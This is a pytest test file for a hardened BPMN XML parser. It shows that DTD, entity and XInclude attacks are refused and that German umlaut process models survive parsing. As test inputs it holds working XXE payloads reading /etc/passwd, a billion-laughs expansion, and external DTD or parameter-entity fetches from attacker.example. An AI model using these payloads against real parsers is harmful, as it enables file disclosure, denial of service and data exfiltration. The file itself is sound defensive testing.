"""Hardened model parsing: every classic XML attack is refused, honest German models pass intact."""

from __future__ import annotations

import re

import pytest

from engine.bpmn import safe_xml
from engine.bpmn.safe_xml import MAX_MODEL_BYTES, UnsafeXmlError, parse_model_xml

BPMN_NS = "http://www.omg.org/spec/BPMN/20100524/MODEL"

UMLAUT_MODEL = f"""<?xml version="1.0" encoding="UTF-8"?>
<bpmn:definitions xmlns:bpmn="{BPMN_NS}" id="Defs_1" targetNamespace="http://kim.example/bpmn">
  <!-- Prüfung der Aufenthaltsgestattung -->
  <bpmn:process id="Prozess_Pruefung" name="Größenprüfung für Ärzte, Öfen und Übergänge" isExecutable="true">
    <bpmn:laneSet id="LaneSet_1">
      <bpmn:lane id="Lane_ABH" name="Ausländerbehörde" />
    </bpmn:laneSet>
    <bpmn:startEvent id="Start" name="Antrag eingegangen &#8211; straße" />
    <bpmn:userTask id="Task_1" name="Unterlagen prüfen (ÄÖÜß äöü)" />
    <bpmn:documentation>&lt;b&gt;Hinweis&lt;/b&gt; &amp; mehr: &#228;</bpmn:documentation>
  </bpmn:process>
</bpmn:definitions>
"""

XXE_FILE = b"""<?xml version="1.0"?>
<!DOCTYPE definitions [<!ENTITY xxe SYSTEM "file:///etc/passwd">]>
<definitions><process name="&xxe;"/></definitions>"""

XXE_TEXT = b"""<?xml version="1.0"?>
<!DOCTYPE definitions [<!ENTITY xxe SYSTEM "file:///etc/passwd">]>
<definitions><documentation>&xxe;</documentation></definitions>"""

BILLION_LAUGHS = b"""<?xml version="1.0"?>
<!DOCTYPE lolz [
 <!ENTITY lol "lol">
 <!ENTITY lol1 "&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;">
 <!ENTITY lol2 "&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;">
 <!ENTITY lol3 "&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;">
 <!ENTITY lol9 "&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;">
]>
<lolz>&lol9;</lolz>"""

EXTERNAL_DTD = b"""<?xml version="1.0"?>
<!DOCTYPE definitions SYSTEM "http://attacker.example/evil.dtd">
<definitions/>"""

PARAMETER_ENTITY = b"""<?xml version="1.0"?>
<!DOCTYPE definitions [
  <!ENTITY % remote SYSTEM "http://attacker.example/exfil.dtd">
  %remote;
]>
<definitions/>"""

XINCLUDE = b"""<?xml version="1.0"?>
<definitions xmlns:xi="http://www.w3.org/2001/XInclude">
  <xi:include href="file:///etc/passwd" parse="text"/>
</definitions>"""


@pytest.mark.parametrize(
    ("content", "reason"),
    [
        pytest.param(XXE_FILE, "DOCTYPE declarations are not allowed", id="xxe-file"),
        pytest.param(XXE_TEXT, "DOCTYPE declarations are not allowed", id="xxe-text"),
        pytest.param(BILLION_LAUGHS, "DOCTYPE declarations are not allowed", id="billion-laughs"),
        pytest.param(EXTERNAL_DTD, "DOCTYPE declarations are not allowed", id="external-dtd"),
        pytest.param(PARAMETER_ENTITY, "DOCTYPE declarations are not allowed", id="parameter-entity"),
        pytest.param(b'<!ENTITY x "y"><d/>', "ENTITY declarations are not allowed", id="bare-entity"),
        pytest.param(b"<!doctype definitions><definitions/>", "DOCTYPE declarations", id="lower-case"),
        pytest.param(b"\xef\xbb\xbf  <!DOCTYPE d><d/>", "DOCTYPE declarations", id="after-bom"),
    ],
)
def test_dtd_attacks_are_refused(content: bytes, reason: str) -> None:
    with pytest.raises(UnsafeXmlError, match=reason):
        parse_model_xml(content)


@pytest.mark.parametrize("content", [XXE_FILE, XXE_TEXT, BILLION_LAUGHS, EXTERNAL_DTD, PARAMETER_ENTITY])
def test_parsed_tree_is_checked_even_if_the_byte_scan_misses(
    monkeypatch: pytest.MonkeyPatch, content: bytes
) -> None:
    # The second line of defence: with the byte scan switched off, the parser resolves and fetches
    # nothing, and either lxml or the tree check refuses the document.
    monkeypatch.setattr(safe_xml, "_DTD_MARKERS", re.compile(rb"(?!)(x)"))
    refused = r"DOCTYPE declarations are not allowed|external entity"
    with pytest.raises(UnsafeXmlError, match=refused) as caught:
        parse_model_xml(content)
    assert "root:" not in str(caught.value)


def test_xinclude_is_not_processed() -> None:
    root = parse_model_xml(XINCLUDE)
    include = root[0]
    assert include.tag == "{http://www.w3.org/2001/XInclude}include"
    assert len(include) == 0
    assert not (include.text or "").strip()
    assert "root:" not in "".join(root.itertext())


def test_undeclared_entity_is_malformed() -> None:
    with pytest.raises(UnsafeXmlError, match=r"not well-formed XML: Entity 'xxe' not defined \(line 1\)"):
        parse_model_xml(b"<definitions>&xxe;</definitions>")


def test_oversize_is_refused_before_parsing() -> None:
    content = b"<definitions>" + b" " * MAX_MODEL_BYTES + b"</definitions>"
    with pytest.raises(UnsafeXmlError, match="too large"):
        parse_model_xml(content)


def test_exactly_the_limit_is_fine() -> None:
    head, tail = b"<definitions>", b"</definitions>"
    content = head + b" " * (MAX_MODEL_BYTES - len(head) - len(tail)) + tail
    assert parse_model_xml(content).tag == "definitions"


def test_malformed_xml_names_the_problem_and_line() -> None:
    with pytest.raises(UnsafeXmlError, match=r"not well-formed XML: .*mismatch.* \(line 3\)"):
        parse_model_xml(b"<definitions>\n  <process>\n  </proces>\n</definitions>")


@pytest.mark.parametrize(
    ("content", "reason"),
    [
        pytest.param("<d>Größe</d>".encode("latin-1"), "not valid UTF-8", id="latin-1-bytes"),
        pytest.param("<d/>".encode("utf-16"), "not valid UTF-8", id="utf-16"),
        pytest.param(b"\x00\xff\xfe garbage \x81", "not valid UTF-8", id="binary"),
        pytest.param('<?xml version="1.0" encoding="ISO-8859-1"?><d>Größe</d>'.encode(),
                     "declares the encoding ISO-8859-1", id="declared-latin-1-not-ascii"),
        pytest.param(b"", "empty", id="empty"),
        pytest.param(b"  \n ", "empty", id="blank"),
        pytest.param(b"just text", "not well-formed XML", id="not-xml"),
    ],
)
def test_encoding_and_garbage_are_refused_clearly(content: bytes, reason: str) -> None:
    with pytest.raises(UnsafeXmlError, match=reason):
        parse_model_xml(content)


def test_text_instead_of_bytes_is_a_programming_error() -> None:
    with pytest.raises(TypeError):
        parse_model_xml("<d/>")  # type: ignore[arg-type]  # reason: testing the runtime check


def test_umlauts_survive_unchanged() -> None:
    root = parse_model_xml(UMLAUT_MODEL.encode("utf-8"))
    ns = {"bpmn": BPMN_NS}
    process = root.find("bpmn:process", ns)
    assert process.get("name") == "Größenprüfung für Ärzte, Öfen und Übergänge"
    assert root.find(".//bpmn:lane", ns).get("name") == "Ausländerbehörde"
    assert root.find(".//bpmn:userTask", ns).get("name") == "Unterlagen prüfen (ÄÖÜß äöü)"
    assert root.find(".//bpmn:startEvent", ns).get("name") == "Antrag eingegangen \u2013 straße"
    assert root.find(".//bpmn:documentation", ns).text == "<b>Hinweis</b> & mehr: ä"


def test_utf8_with_bom_and_ascii_declaration_are_accepted() -> None:
    assert parse_model_xml("\ufeff<d name='Öl'/>".encode()).get("name") == "Öl"
    assert parse_model_xml(b'<?xml version="1.0" encoding="us-ascii"?><d/>').tag == "d"
    # older tools declare ISO-8859-1; with only ASCII bytes the file is the same in UTF-8
    assert parse_model_xml(b'<?xml version="1.0" encoding="ISO-8859-1"?><d>Strasse</d>').text == "Strasse"
